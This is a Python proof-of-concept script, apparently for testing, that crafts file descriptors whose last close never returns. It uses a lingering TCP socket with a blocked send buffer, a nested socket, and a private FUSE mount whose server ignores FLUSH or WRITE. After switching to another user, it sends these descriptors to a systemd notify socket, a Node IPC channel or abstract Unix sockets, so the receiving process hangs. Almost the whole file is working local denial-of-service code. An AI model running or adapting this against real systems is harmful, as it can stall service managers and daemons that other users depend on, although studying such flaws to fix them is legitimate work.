"""Sends descriptors whose last close never returns to a reuse-run.

usage: descriptors.py send KIND CHANNEL FOLDER [COUNT]
       descriptors.py worker PORT [KIND CHANNEL FOLDER [COUNT]]

KIND      linger   a connection with unsent data and SO_LINGER
          nested   a socket in whose queue that connection is
          flush    a file of FUSE whose server never answers FLUSH, which each close sends
          write    a file of FUSE whose server never answers WRITE, which the last close sends if there is something to write
CHANNEL   notify, node (of the worker), or an abstract name

As another user. COUNT of them are sent, each with a message and to an abstract name on a connection of its own, when
FOLDER/go exists, and they are nobody else's then. A worker answers each connection to PORT with
the time in ms that it takes to unlink a path, and has a process that sends.
"""
import ctypes
import os
import socket
import struct
import sys
import time

libc = ctypes.CDLL(None, use_errno=True)
kept = []


def mount(source, target, kind, flags, data):
    if libc.mount(source, target.encode(), kind, flags, data) != 0:
        raise OSError(ctypes.get_errno(), f'mount {target}')


def linger(folder):
    listener = socket.create_server(('127.0.0.1', 0))
    client = socket.create_connection(listener.getsockname())
    kept.append(listener.accept())  # it reads nothing
    client.setblocking(False)
    try:
        while True:
            client.send(b'x' * 65536)
    except BlockingIOError:
        pass
    client.setblocking(True)
    client.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack('ii', 1, 3600))
    return client.detach()


def nested(folder):
    inner = linger(folder)
    ours, its = socket.socketpair()
    socket.send_fds(ours, [b'x'], [inner])
    os.close(inner)
    kept.append(ours)
    return its.detach()


def answer(request, deaf_to):
    """The answer to a request of FUSE (linux/fuse.h), for a file system of one folder and one file."""
    opcode, number, node = struct.unpack_from('=IQQ', request, 4)
    is_file = node != 1 or opcode == 1
    mode, links = (0o100666, 1) if is_file else (0o40755, 2)
    attributes = struct.pack('=6Q10I', 2 if is_file else 1, *[0] * 8, mode, links, *[0] * 5)
    bodies = {
        1: struct.pack('=4QII', 2, 1, 3600, 3600, 0, 0) + attributes,  # LOOKUP
        3: struct.pack('=QII', 3600, 0, 0) + attributes,  # GETATTR
        4: struct.pack('=QII', 3600, 0, 0) + attributes,  # SETATTR
        14: struct.pack('=QII', 1, 0, 0),  # OPEN
        18: b'',  # RELEASE
        25: b'',  # FLUSH
        26: struct.pack('=4IHHII', 7, 31, 0, 1 << 16, 12, 9, 4096, 1) + bytes(36),  # INIT, FUSE_WRITEBACK_CACHE
    }
    if opcode == 2 or opcode == deaf_to:  # FORGET has no answer
        return None
    body = bodies.get(opcode)
    error = 0 if body is not None else -38  # ENOSYS
    return struct.pack('=IiQ', 16 + len(body or b''), error, number) + (body or b'')


def fuse(folder, deaf_to):
    """Returns the path of the file in a new process. This one, which can be killed, serves it, to nobody else."""
    if libc.unshare(0x00020000) != 0:  # CLONE_NEWNS
        raise OSError(ctypes.get_errno(), 'unshare')
    mount(None, '/', None, (1 << 18) | 16384, None)  # MS_PRIVATE, MS_REC
    device = os.open('/dev/fuse', os.O_RDWR)
    point = f'{folder}/mount-{os.getpid()}'
    os.mkdir(point)
    mount(b'fuse', point, b'fuse', 0, b'fd=%d,rootmode=40000,user_id=0,group_id=0,allow_other' % device)
    if os.fork() == 0:
        os.close(device)
        return f'{point}/file'
    if os.getpgrp() != os.getpid():
        os.setsid()  # what ends the worker doesn't end this
    while True:
        reply = answer(os.read(device, 1 << 17), deaf_to)
        if reply is not None:
            os.write(device, reply)


def attack(kind, channel, folder, count='1'):
    path = None
    if kind in ('flush', 'write'):
        path = fuse(folder, {'flush': 25, 'write': 16}[kind])
        fds = [os.open(path, os.O_RDWR) for _ in range(int(count))]
    else:
        fds = [globals()[kind](folder) for _ in range(int(count))]
    os.setgroups([])
    os.setgid(54322)
    os.setuid(54322)
    again = os.open(path, os.O_RDWR) if kind == 'write' else None
    if channel == 'node':
        client = socket.socket(fileno=int(os.environ['NODE_CHANNEL_FD']))
    elif channel == 'notify':
        client = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
        client.connect(os.environ['NOTIFY_SOCKET'])
    print('made', flush=True)
    while not os.path.exists(f'{folder}/go'):
        time.sleep(0.01)
    for number, fd in enumerate(fds):
        while True:
            if channel not in ('node', 'notify'):
                client = socket.socket(socket.AF_UNIX)
                client.connect('\0' + channel)
                kept.append(client)
            try:
                socket.send_fds(client, [b'STATUS=sent %d\n' % (number + 1)], [fd])
            except PermissionError:
                print('refused', flush=True)  # SO_PASSRIGHTS
            except BrokenPipeError:
                continue  # another user's connection is closed at once, this time before that
            break
    if kind == 'flush':
        print('sent', flush=True)  # this close never returns either
    for fd in fds:
        os.close(fd)
    if again is not None:
        os.write(again, b'x')
    print('sent', flush=True)
    while True:
        time.sleep(0.1)


def worker(port, *what):
    listener = socket.create_server(('127.0.0.1', int(port)))
    if what and os.fork() == 0:
        listener.close()
        attack(*what)
    while True:
        connection, _ = listener.accept()
        begun = time.monotonic()
        try:
            os.unlink('/nonexistent/socket')
        except FileNotFoundError:
            pass
        connection.sendall(b'%.3f\n' % ((time.monotonic() - begun) * 1000))
        connection.close()


{'send': attack, 'worker': worker}[sys.argv[1]](*sys.argv[2:])
